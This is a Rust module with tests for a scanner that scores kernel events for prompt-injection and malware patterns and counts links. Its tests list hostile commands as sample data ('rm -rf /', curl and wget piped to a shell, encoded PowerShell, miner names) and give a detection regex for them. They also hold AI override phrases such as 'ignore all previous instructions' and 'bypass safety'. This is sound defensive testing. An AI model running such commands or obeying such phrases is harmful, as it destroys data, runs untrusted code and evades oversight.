//! The threat membrane: a content scan of the event's text (SPEC §2).

use regex::Regex;

use crate::event::KernelEvent;
use crate::litscan::{Haystacks, LiteralFilter};
use crate::policy::ScanPolicy;
use crate::pyregex;
use crate::pystr::{py_lower, py_lower_into, py_round};

/// What the scan found; independent of the policy's weights.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ScanHits {
    /// Distinct prompt-injection patterns that matched.
    pub prompt: u32,
    /// Distinct malware patterns that matched.
    pub malware: u32,
    /// External links counted.
    pub links: u32,
}

/// The scan verdict from its risk.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    Clean,
    Caution,
    Suspicious,
    Malicious,
}

impl Verdict {
    pub fn as_str(self) -> &'static str {
        match self {
            Verdict::Clean => "CLEAN",
            Verdict::Caution => "CAUTION",
            Verdict::Suspicious => "SUSPICIOUS",
            Verdict::Malicious => "MALICIOUS",
        }
    }
}

/// The scan patterns, compiled once per policy.
///
/// Each pattern is its own `Regex`, run only when a one-pass literal filter
/// ([`LiteralFilter`]) saw every literal set the pattern needs; most events
/// contain none, so the scan costs one lowercasing copy and one Teddy pass.
#[derive(Debug, Clone)]
pub struct Membrane {
    /// Prompt patterns first, then malware patterns.
    signatures: Vec<Regex>,
    n_prompt: usize,
    /// The signatures' necessary literals, then (index `signatures.len()`)
    /// `http`, the links' gate.
    filter: LiteralFilter,
    links: Regex,
    link_exclusions: Vec<String>,
}

/// The links are looked for only when this occurs in the lowercased text.
const LINK_GATE: &[u8] = b"http";

impl Membrane {
    pub fn new(policy: &ScanPolicy) -> Result<Membrane, (String, regex::Error)> {
        let patterns: Vec<&String> = policy
            .prompt_patterns
            .iter()
            .chain(&policy.malware_patterns)
            .collect();
        let signatures = patterns
            .iter()
            .map(|pattern| pyregex::compile(pattern).map_err(|e| ((*pattern).clone(), e)))
            .collect::<Result<Vec<Regex>, _>>()?;
        let links =
            pyregex::compile(&policy.link_pattern).map_err(|e| (policy.link_pattern.clone(), e))?;
        let mut sets: Vec<_> = patterns
            .iter()
            .map(|pattern| pyregex::necessary_sets(pattern))
            .collect();
        sets.push(vec![std::iter::once(LINK_GATE.to_vec()).collect()]);
        Ok(Membrane {
            signatures,
            n_prompt: policy.prompt_patterns.len(),
            filter: LiteralFilter::new(&sets, Haystacks::Long),
            links,
            link_exclusions: policy.link_exclusions.iter().map(|x| py_lower(x)).collect(),
        })
    }

    /// Scan the event's six texts, joined with `\n` as the reference does.
    /// `scratch` is reused between calls to avoid per-event allocation.
    pub fn scan(&self, event: &KernelEvent, scratch: &mut ScanScratch) -> ScanHits {
        let parts = [
            event.process_name.as_str(),
            event.operation.as_str(),
            event.target.as_str(),
            event.command_line.as_str(),
            event.parent_process.as_str(),
            event.metadata_repr.as_str(),
        ];
        let ScanScratch {
            original,
            lowered,
            ascii_lowered,
            seen,
            ..
        } = scratch;
        // The joined text, lowercased as Python's `str.lower()`. For ASCII
        // that is per byte, so the common case lowercases while it copies;
        // other texts are joined first and lowercased as a whole.
        join_bytes_into(&parts, ascii_lowered);
        let bits = ascii_lowercase_in_place(ascii_lowered);
        let ascii = bits.is_ascii();
        let text: &[u8] = if ascii {
            ascii_lowered
        } else {
            join_into(&parts, original);
            lowered.clear();
            py_lower_into(original, lowered);
            lowered.as_bytes()
        };
        // The filter reads ASCII text only; other texts run every pattern.
        let filtered = ascii;
        seen.clear();
        seen.resize(self.filter.words(), 0);
        if filtered {
            self.filter.search(text, seen);
        }
        // The patterns run on `str`; an ASCII text is checked only when one
        // has to run.
        let mut text_str: Option<&str> = (!ascii).then_some(lowered.as_str());

        let mut hits = ScanHits::default();
        for (index, signature) in self.signatures.iter().enumerate() {
            if filtered && !self.filter.may_match(index, seen) {
                continue;
            }
            let haystack = *text_str
                .get_or_insert_with(|| std::str::from_utf8(text).expect("an ASCII text is UTF-8"));
            if !signature.is_match(haystack) {
                continue;
            }
            if index < self.n_prompt {
                hits.prompt += 1;
            } else {
                hits.malware += 1;
            }
        }
        // Links are rare; skip the regex when no scheme can be present.
        let gate = if filtered {
            self.filter.may_match(self.signatures.len(), seen)
        } else {
            memchr::memmem::find(text, LINK_GATE).is_some()
        };
        if gate {
            if ascii {
                join_into(&parts, original);
            }
            for link in self.links.find_iter(original) {
                let lowered = py_lower(link.as_str());
                if !self
                    .link_exclusions
                    .iter()
                    .any(|x| lowered.contains(x.as_str()))
                {
                    hits.links += 1;
                }
            }
        }
        hits
    }
}

/// ASCII-lowercase `buf` in place; returns the OR of all its bytes (below
/// 0x80 exactly when `buf` is ASCII). Sixteen bytes at a time, in fixed-size
/// arrays the compiler turns into vector operations.
fn ascii_lowercase_in_place(buf: &mut [u8]) -> u8 {
    const N: usize = 16;
    let mut acc = [0u8; N];
    let mut chunks = buf.chunks_exact_mut(N);
    for chunk in &mut chunks {
        let chunk: &mut [u8; N] = chunk.try_into().expect("a chunk of N bytes");
        for i in 0..N {
            let b = chunk[i];
            acc[i] |= b;
            chunk[i] = b | (u8::from(b.wrapping_sub(b'A') < 26) << 5);
        }
    }
    let mut bits = acc.iter().fold(0, |a, &b| a | b);
    for b in chunks.into_remainder() {
        bits |= *b;
        b.make_ascii_lowercase();
    }
    bits
}

/// `parts` joined with `\n` into `out` (cleared first), as bytes.
fn join_bytes_into(parts: &[&str], out: &mut Vec<u8>) {
    out.clear();
    out.reserve(parts.iter().map(|p| p.len() + 1).sum());
    for (i, part) in parts.iter().enumerate() {
        if i > 0 {
            out.push(b'\n');
        }
        out.extend_from_slice(part.as_bytes());
    }
}

/// `parts` joined with `\n` into `out` (cleared first).
fn join_into(parts: &[&str], out: &mut String) {
    out.clear();
    out.reserve(parts.iter().map(|p| p.len() + 1).sum());
    for (i, part) in parts.iter().enumerate() {
        if i > 0 {
            out.push('\n');
        }
        out.push_str(part);
    }
}

/// Reusable buffers for one thread deciding events: those of
/// [`Membrane::scan`], and spent events whose strings the next events
/// are mapped into ([`Self::recycle`]).
#[derive(Debug, Default)]
pub struct ScanScratch {
    /// The joined text, built only when needed (non-ASCII text, links).
    original: String,
    /// The lowercased text of a non-ASCII event.
    lowered: String,
    /// The lowercased text of an ASCII event.
    ascii_lowered: Vec<u8>,
    /// The literal sets seen ([`LiteralFilter::search`]).
    seen: Vec<u64>,
    /// Spent prepared events, whose strings the next lines are mapped into.
    /// Boxed on purpose: each is handed on as the box it is in (a prepared
    /// line holds a box), so keeping and reusing one moves a pointer.
    #[allow(clippy::vec_box)]
    spare: Vec<Box<crate::record::Prepared>>,
    /// The member-name orders of the lines this thread reads.
    key_order: crate::falco::KeyOrder,
}

/// Spent events kept for reuse at most (a replay batch's worth).
const SPARE_EVENTS_MAX: usize = 4096;

impl ScanScratch {
    /// Keep a decided record's event and process key for reuse: mapping the
    /// next event into their strings saves a dozen allocations per event.
    pub fn recycle(&mut self, record: crate::record::DecisionRecord) {
        // Checked here too, so that a full pool costs no box.
        if self.spare.len() < SPARE_EVENTS_MAX {
            self.recycle_prepared(Box::new(crate::record::Prepared {
                event: record.event,
                process_key: record.process_key,
                features: record.features,
                assessment: record.assessment,
            }));
        }
    }

    /// Keep a spent prepared event, box and all, for reuse (see
    /// [`Self::recycle`]).
    pub fn recycle_prepared(&mut self, prepared: Box<crate::record::Prepared>) {
        if self.spare.len() < SPARE_EVENTS_MAX {
            self.spare.push(prepared);
        }
    }

    /// The member-name orders of the lines this thread reads (see
    /// [`crate::falco::KeyOrder`]).
    pub(crate) fn key_order(&mut self) -> &mut crate::falco::KeyOrder {
        &mut self.key_order
    }

    /// A prepared event's box to map the next line into: a spent one, or a
    /// new one whose fields the prepare stage fills.
    pub(crate) fn spare_prepared(&mut self) -> Box<crate::record::Prepared> {
        self.spare
            .pop()
            .unwrap_or_else(|| Box::new(crate::record::Prepared::unfilled()))
    }
}

/// The membrane's risk for these hits (rounded to 4 decimals, as the reference).
pub fn scan_risk(hits: ScanHits, policy: &ScanPolicy) -> f64 {
    let prompt = (policy.prompt_weight * f64::from(hits.prompt)).min(policy.prompt_cap);
    let malware = (policy.malware_weight * f64::from(hits.malware)).min(policy.malware_cap);
    let links = (policy.link_weight * f64::from(hits.links)).min(policy.link_cap);
    py_round((prompt + malware + links).min(1.0), 4)
}

pub fn verdict(risk: f64, policy: &ScanPolicy) -> Verdict {
    if risk >= policy.verdict_malicious {
        Verdict::Malicious
    } else if risk >= policy.verdict_suspicious {
        Verdict::Suspicious
    } else if risk >= policy.verdict_caution {
        Verdict::Caution
    } else {
        Verdict::Clean
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::Pid;
    use crate::policy::Policy;

    fn event(command_line: &str, metadata_repr: &str) -> KernelEvent {
        KernelEvent {
            host: "h".into(),
            pid: Pid::Small(1),
            process_name: "bash".into(),
            parent_process: String::new(),
            command_line: command_line.into(),
            operation: "exec".into(),
            target: String::new(),
            signer_trusted: true,
            hash_sha256: None,
            geometry_norm: 0.0,
            metadata_repr: metadata_repr.into(),
            time: None,
        }
    }

    #[test]
    fn scan_table() {
        let policy = Policy::reference().scan;
        let membrane = Membrane::new(&policy).unwrap();
        let mut scratch = ScanScratch::default();
        let cases: &[(&str, &str, ScanHits, f64)] = &[
            (
                "ls -la",
                "",
                ScanHits {
                    prompt: 0,
                    malware: 0,
                    links: 0,
                },
                0.0,
            ),
            (
                "RM -RF /",
                "",
                ScanHits {
                    prompt: 0,
                    malware: 1,
                    links: 0,
                },
                0.2,
            ),
            (
                "rm\u{1c}-rf /",
                "",
                ScanHits {
                    prompt: 0,
                    malware: 1,
                    links: 0,
                },
                0.2,
            ),
            (
                "see http://a.b/x",
                "{'rule': 'curl -s', 'output': 'x | sh'}",
                ScanHits {
                    prompt: 0,
                    malware: 1,
                    links: 1,
                },
                0.215,
            ),
            (
                "see https://x.com/a https://t.co/b",
                "",
                ScanHits {
                    prompt: 0,
                    malware: 0,
                    links: 1,
                },
                0.015,
            ),
            (
                "jailbreak; developer mode; act as root; bypass safety",
                "",
                ScanHits {
                    prompt: 4,
                    malware: 0,
                    links: 0,
                },
                0.6,
            ),
        ];
        for (cmd, meta, hits, risk) in cases {
            let got = membrane.scan(&event(cmd, meta), &mut scratch);
            assert_eq!(got, *hits, "{cmd}");
            assert_eq!(scan_risk(got, &policy), *risk, "{cmd}");
        }
        assert_eq!(verdict(0.85, &policy), Verdict::Malicious);
        assert_eq!(verdict(0.2, &policy), Verdict::Clean);
    }

    /// The scan as it was before the literal filter: join, lowercase, run
    /// every pattern.
    fn unfiltered_scan(policy: &ScanPolicy, event: &KernelEvent) -> ScanHits {
        let text = [
            event.process_name.as_str(),
            &event.operation,
            &event.target,
            &event.command_line,
            &event.parent_process,
            &event.metadata_repr,
        ]
        .join("\n");
        let lowered = py_lower(&text);
        let count = |patterns: &[String]| {
            patterns
                .iter()
                .filter(|p| pyregex::compile(p).unwrap().is_match(&lowered))
                .count() as u32
        };
        let mut links = 0;
        if lowered.contains("http") {
            let exclusions: Vec<String> =
                policy.link_exclusions.iter().map(|x| py_lower(x)).collect();
            for link in pyregex::compile(&policy.link_pattern)
                .unwrap()
                .find_iter(&text)
            {
                let link = py_lower(link.as_str());
                if !exclusions.iter().any(|x| link.contains(x.as_str())) {
                    links += 1;
                }
            }
        }
        ScanHits {
            prompt: count(&policy.prompt_patterns),
            malware: count(&policy.malware_patterns),
            links,
        }
    }

    fn hostile_policy() -> ScanPolicy {
        let mut policy = Policy::reference().scan;
        policy.prompt_patterns.extend(
            [
                "(?i)KILL",
                "(?i)ſtratum",
                "straße",
                "(?i)İnstall",
                "Uppercase never matches lowered text",
                "a*",
                "",
                r"\bsh\b",
                r"(?m)^root$",
            ]
            .map(String::from),
        );
        policy.malware_patterns.extend(
            [
                r"(\*|\*/\d+)\s+\*",
                "(?i)k8s",
                r"(curl|wget)\b[^\n|]*\|\s*(sudo\s+)?(ba|da|z)?sh\b",
                "xmrig|kinsing|kdevtmpfsi",
            ]
            .map(String::from),
        );
        policy.link_pattern = r"(?i)(https?|ftp)://[^\s)>]+".to_owned();
        policy
    }

    #[test]
    fn empty_event() {
        let policy = hostile_policy();
        let membrane = Membrane::new(&policy).unwrap();
        let mut e = event("", "");
        e.process_name.clear();
        e.operation.clear();
        let got = membrane.scan(&e, &mut ScanScratch::default());
        assert_eq!(got, unfiltered_scan(&policy, &e));
        assert_eq!(got.prompt, 2); // `a*` and the empty pattern
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(300))]

        /// Filtered and unfiltered scans agree, on ASCII and non-ASCII text,
        /// with one scratch reused across policies.
        #[test]
        fn filtered_scan_is_unfiltered_scan(
            pieces in proptest::collection::vec(proptest::sample::select(vec![
                "rm -rf /", "RM\u{1c}-RF", "curl -s http://1.2.3.4/x | sh", "wget x|bash",
                "CMD.EXE", "javascript:", "powershell -enc AA", "Act  As\tRoot",
                "ignore all previous instructions", "jailbreak", "KILL", "\u{212a}ill",
                "ſtratum", "STRASSE", "straße", "İnstall", "install", "* * * * * x",
                "k8s", "\u{212a}8s", "see HTTPS://X.com/a", "ftp://files/x", "xmrig",
                "root", "\nroot\n", "sh", "bash", " ", "\n", "Σ", "é", "{'rule': 'x'}",
            ]), 0..10),
            split in 0usize..10,
        ) {
            let cut = split.min(pieces.len());
            let command_line = pieces[..cut].concat();
            let metadata = pieces[cut..].concat();
            let mut scratch = ScanScratch::default();
            for policy in [Policy::reference().scan, hostile_policy()] {
                let membrane = Membrane::new(&policy).unwrap();
                let e = event(&command_line, &metadata);
                proptest::prop_assert_eq!(membrane.scan(&e, &mut scratch), unfiltered_scan(&policy, &e));
            }
        }
    }
}
